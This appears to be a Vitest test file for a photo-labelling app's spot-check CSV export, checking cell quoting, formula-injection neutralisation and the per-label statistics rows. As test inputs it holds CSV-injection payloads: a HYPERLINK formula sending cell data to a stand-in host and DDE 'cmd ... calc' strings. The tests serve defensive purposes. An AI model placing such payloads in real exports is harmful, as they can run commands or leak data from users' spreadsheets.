import { describe, expect, it } from 'vitest';
import { estimatesFrom, type SpotCheckDetail } from '../../../lib/queries/spotChecks.ts';
import { csvCell } from '../../../lib/csv.ts';
import { spotCheckItemsCsv, spotCheckSummaryCsv } from '../../../lib/stats/spotCheckCsv.ts';

const detail: SpotCheckDetail = {
  spotCheck: {
    id: 's1',
    name: 'Week 1, "pilot"',
    population: 'included',
    size: 2,
    seed: 'x',
    populationSize: 1000,
    createdAt: '',
    createdBy: null,
    labelled: 2,
  },
  items: [
    {
      photoId: 'p1',
      position: 1,
      contentHash: null,
      noImage: 'Not downloaded yet',
      title: '',
      ownerNsid: 'o@N01',
      labels: ['non_photo', 'copyright'],
      labelledBy: 'A',
      labelledAt: '2026-01-01T00:00:00.000Z',
    },
    {
      photoId: 'p2',
      position: 2,
      contentHash: null,
      noImage: 'Not downloaded yet',
      title: '',
      ownerNsid: 'o@N01',
      labels: ['fine'],
      labelledBy: 'A',
      labelledAt: '2026-01-01T00:00:00.000Z',
    },
  ],
  estimates: estimatesFrom([['non_photo', 'copyright'], ['fine']], 1000),
};

describe('spot-check CSV', () => {
  it('quotes cells that need it', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(null)).toBe('');
  });

  it('neutralises text a spreadsheet would run as a formula (OWASP: leading quote, cell quoted), not numbers', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"',
    );
    expect(csvCell("+1+cmd|' /C calc'!A0")).toBe("\"'+1+cmd|' /C calc'!A0\"");
    expect(csvCell('@SUM(1)')).toBe('"\'@SUM(1)"');
    expect(csvCell('-2+3')).toBe('"\'-2+3"');
    expect(csvCell('\tx')).toBe('"\'\tx"');
    expect(csvCell('\rx')).toBe('"\'\rx"');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(-1)).toBe('-1');
  });

  it('neutralises spot-check and reviewer names starting with =', () => {
    const evil: SpotCheckDetail = {
      ...detail,
      spotCheck: { ...detail.spotCheck, name: "=cmd|' /C calc'!A0" },
      items: detail.items.map((i) => ({ ...i, labelledBy: '=HYPERLINK("http://evil.example","x")' })),
    };
    const summary = spotCheckSummaryCsv(evil).split('\r\n')[1];
    expect(summary.startsWith("\"'=cmd|' /C calc'!A0\",included,")).toBe(true);
    const item = spotCheckItemsCsv(evil).split('\r\n')[1];
    expect(item).toContain(',"\'=HYPERLINK(""http://evil.example"",""x"")",');
    for (const line of [
      ...spotCheckSummaryCsv(evil).split('\r\n'),
      ...spotCheckItemsCsv(evil).split('\r\n'),
    ]) {
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^[=+@]/);
    }
  });

  it('writes one row per label with counts, intervals and population estimates', () => {
    const lines = spotCheckSummaryCsv(detail).trimEnd().split('\r\n');
    expect(lines).toHaveLength(7);
    expect(lines[0]).toContain('label,label_name,count,labelled,share,ci95_low,ci95_high');
    expect(lines.find((l) => l.includes(',non_photo,'))).toBe(
      '"Week 1, ""pilot""",included,1000,x,non_photo,Non-photo,1,2,0.5000,0.0945,0.9055,500,95,905',
    );
    expect(lines.at(-1)).toContain(',any_problem,Any problem,1,2,');
  });

  it('writes one row per item with its labels and Flickr page', () => {
    const lines = spotCheckItemsCsv(detail).trimEnd().split('\r\n');
    expect(lines[1]).toBe(
      '1,p1,o@N01,non_photo;copyright,A,2026-01-01T00:00:00.000Z,https://www.flickr.com/photos/o%40N01/p1',
    );
  });
});
